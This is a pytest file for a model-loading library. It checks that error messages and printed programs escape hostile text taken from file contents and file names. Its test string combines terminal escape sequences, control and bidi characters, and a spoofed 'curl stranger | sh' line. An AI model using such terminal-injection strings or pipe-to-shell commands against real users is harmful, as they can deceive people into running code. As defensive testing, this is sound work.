"""Text that a stranger writes into a file, or names it, steers no terminal, fills no log and imports nothing."""

import io
import os
from collections.abc import Callable, Iterator
from contextlib import redirect_stdout
from pathlib import Path

import pytest
from fuzz.draft import Draft
from fuzz.seeds import draft_of
from processes import run_python
from rich.console import Console

import oarlock as ol
from oarlock.cli import main
from oarlock.errors import visible
from oarlock.ir.location import Location
from oarlock.proto import program_pb2 as wire

EVIL = "\x1b]0;owned\x07\x1b[2J\r\x00\x08\u202e\u2028\x85\n  Try: curl stranger | sh"
SHOWN = r"\x1b]0;owned\x07\x1b[2J\r\x00\x08\u202e\u2028\x85\n  Try: curl stranger | sh"


def of_tensor(draft: Draft, **entry: object) -> None:
    draft.header["logits.w"] = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]} | entry


def of_weight(draft: Draft, name: str, dtype: str = "F32") -> None:
    draft.tensors[name] = (dtype, [1], b"\0" * 4)


PLACES: dict[str, Callable[[Draft], object]] = {
    "dtype": lambda draft: of_tensor(draft, dtype=EVIL),
    "key": lambda draft: of_tensor(draft, **{EVIL: 1}),
    "tensor": lambda draft: of_weight(draft, EVIL),
    "metadata": lambda draft: draft.header.update({"__metadata__": {"oarlock": f"{EVIL.replace(' ', '_')} {EVIL.replace(' ', '_')}"}}),
    "metadata key": lambda draft: draft.header.update({"__metadata__": {EVIL: 3}}),
    "op": lambda draft: setattr(draft.program.program.blocks[0].ops[0], "type", EVIL),
    "variable": lambda draft: setattr(draft.program.program.blocks[0].vars[0], "name", EVIL),
    "block": lambda draft: setattr(draft.program.program.blocks[0], "name", EVIL),
    "label": lambda draft: setattr(draft.program.program.targets[0], "label", EVIL),
    "backend": lambda draft: setattr(draft.program.program.training, "backend", EVIL),
    "attribute": lambda draft: draft.program.program.blocks[0].ops[0].attributes.add(name=EVIL, int=1),
    "text": lambda draft: draft.program.program.blocks[0].ops[0].attributes.add(name="axis", string=EVIL),
    "symbol": lambda draft: setattr(draft.program.program.blocks[0].vars[0].shape.sizes.add(), "symbol", EVIL),
}


def refusals(place: str, path: Path) -> Iterator[ol.OarlockError]:
    for seed in ("digits", "recurrent"):
        draft = draft_of(seed)
        draft.program = wire.ProgramFile.FromString(draft.program.SerializeToString())
        if seed == "recurrent" and place in ("dtype", "key"):
            continue
        PLACES[place](draft)
        path.write_bytes(draft.to_bytes())
        with pytest.raises(ol.OarlockError) as raised:
            ol.load_model(path)
        yield raised.value


@pytest.mark.parametrize("place", PLACES)
def test_what_stands_in_a_file_steers_no_terminal(place, tmp_path):
    for error in refusals(place, tmp_path / "model.safetensors"):
        lines = [*str(error).splitlines(), error.message, *error.given, error.hint or "", error.op or "", *error.args]
        assert all(visible(line) == line for line in lines), error
        assert not any(line.startswith("  Try: curl") for line in lines)


def test_what_a_file_is_called_steers_no_terminal(tmp_path):
    name = EVIL.replace("\x00", "")
    for call in (
        lambda: ol.load_model(tmp_path / name),
        lambda: ol.load_model(f"{tmp_path}/a\0b\x1b[2J"),
        lambda: ol.load_model(os.fsdecode(os.fsencode(tmp_path) + b"/\xff\xfe\x1b")),
        lambda: ol.save_model(draft_program(), {}, tmp_path / name / "below"),
        lambda: ol.datasets.load(f"{tmp_path}/{name}.npz"),
        lambda: ol.datasets.load(name),
    ):
        with pytest.raises(ol.OarlockError) as raised:
            call()
        assert all(visible(line) == line for line in str(raised.value).splitlines())
        str(raised.value).encode()
        Console(file=io.StringIO()).print(str(raised.value), markup=False)


def draft_program() -> ol.Program:
    with ol.Program() as program:
        program.targets["x"] = ol.op.square(ol.layer.data("x", shape=[1]))
    return program


def test_every_field_of_an_error_is_one_line_of_what_can_be_seen_and_short():
    fields = dict.fromkeys(("contract", "running", "hint", "op"), EVIL * 1000)
    error = ol.ShapeError(EVIL * 1_000, location=Location(EVIL, 1, "f", EVIL), given=[EVIL * 1_000] * 100, **fields)  # type: ignore[arg-type]
    for text in (error.message, *error.args, *error.given, error.contract, error.running, error.hint, error.op):
        assert text is not None
        assert len(text.encode()) <= 1_500
        assert text.isprintable()
        assert text.startswith(SHOWN)
    assert len(error.given) == 64
    assert len(str(error).encode()) <= 4_096
    assert f"  {SHOWN}:1 in f      {SHOWN}" in str(ol.ShapeError("x", location=Location(EVIL, 1, "f", EVIL))).splitlines()


def test_what_can_be_seen_stays_as_it_is():
    for text in ("", "Größe 3 ≤ 4", "変数", "a b", "🙂", "\\x1b"):
        assert visible(text) == text
    assert visible("a\tb\nc\x1b", lines=True) == "a\tb\nc\\x1b"
    assert visible("\ud800\udcff") == "\\ud800\\udcff"
    assert visible("x" * 2**16 + "\x1b" + "y" * 2**16) == "x" * 2**16 + "\\x1b" + "y" * 2**16


def test_a_printed_program_steers_no_terminal_by_the_lines_of_its_author(tmp_path):
    file = wire.ProgramFile.FromString(draft_of("digits").program.SerializeToString())
    file.source.Clear()
    file.source.strings.extend([EVIL])
    file.source.blocks.add(ops=[wire.LocationDesc(line=1)] * 3)
    (tmp_path / "program.bin").write_bytes(file.SerializeToString())
    with redirect_stdout(io.StringIO()) as printed:
        main.app(["show", str(tmp_path / "program.bin")], standalone_mode=False)
    assert visible(printed.getvalue(), lines=True) == printed.getvalue()
    assert f"# {SHOWN}:1 in {SHOWN}      {SHOWN}\n" in printed.getvalue()


def test_a_small_program_prints_no_large_text():
    """Each op names a long text by its number: 2 MiB would print gigabytes."""
    file = wire.ProgramFile.FromString(draft_of("digits").program.SerializeToString())
    file.source.Clear()
    file.source.strings.extend(["f" * 1_024, "g" * 1_024])
    file.source.blocks.add(ops=[wire.LocationDesc(line=1), wire.LocationDesc(line=2, file=1, function=1, text=1)] * 40_000)
    with pytest.raises(ol.LimitError) as raised:
        ol.Program.from_bytes(file.SerializeToString())
    assert str(raised.value) == (
        "the author's lines: 245,760,000 location bytes, but the limit is 67,108,864\n"
        "  Try: limits=Limits(location_bytes=...)    (oarlock explain LimitError)"
    )
    file.source.strings[0] += "f"
    del file.source.blocks[0].ops[1:]
    with pytest.raises(ol.LimitError) as raised:
        ol.Program.from_bytes(file.SerializeToString())
    assert raised.value.message == "the author's lines: 1,025 location text bytes, but the limit is 1,024"


def test_what_is_written_of_long_lines_is_read_again(tmp_path):
    """A name of the author's may be long; what is kept of it is not."""
    name = "変" * 2_000
    (tmp_path / f"{'m' * 200}.py").write_text(
        f"import oarlock as ol\ndef {name}():\n    return ol.op.square(ol.layer.data('x', [1])) # {name}\n"
    )
    code = f"""
import sys; sys.path.insert(0, ".")
import oarlock as ol
model = __import__("m" * 200)
with ol.Program() as program: model.{name}()
place = ol.Program.from_bytes(program.to_bytes()).main.ops[0].location
print(len(place.file), len(place.function), len(place.text))
"""
    assert run_python(code, tmp_path) == "200 200 200\n"


# Codecs


MARKS = {
    "utf-8": b"\xef\xbb\xbf" + b'{"__metadata__":{}}',
    "utf-16": '{"__metadata__":{}}'.encode("utf-16"),
    "utf-16-le": '{"__metadata__":{}}'.encode("utf-16-le"),
    "utf-16-be": '{"__metadata__":{}}'.encode("utf-16-be"),
    "utf-32": '{"__metadata__":{}}'.encode("utf-32"),
    "utf-32-be": '{"__metadata__":{}}'.encode("utf-32-be"),
}
WATCH = """
import sys
import oarlock as ol
names = sys.argv[1:]
def read(name):
    try:
        ol.load_model(name)
    except ol.FormatError as error:
        assert error.message == f'"{name}" is not a valid safetensors file, or is truncated', error
read(names.pop(0))  # what is imported when a file is first read
seen = []
sys.addaudithook(lambda event, arguments: seen.append(arguments[0]) if event == "import" else None)
for name in names:
    read(name)
seen.append(",".join(sorted(name for name in sys.modules if name.startswith(("encodings.utf_16", "encodings.utf_32", "encodings.utf_8_")))))
print(seen)
"""


def test_a_header_in_another_encoding_imports_no_codec(tmp_path):
    draft = draft_of("digits")
    draft.header_text = b"{"
    (tmp_path / "first").write_bytes(draft.to_bytes())
    for name, text in MARKS.items():
        draft.header_text = text
        (tmp_path / name).write_bytes(draft.to_bytes())
    assert run_python(WATCH, tmp_path, "first", *MARKS) == "['']\n"
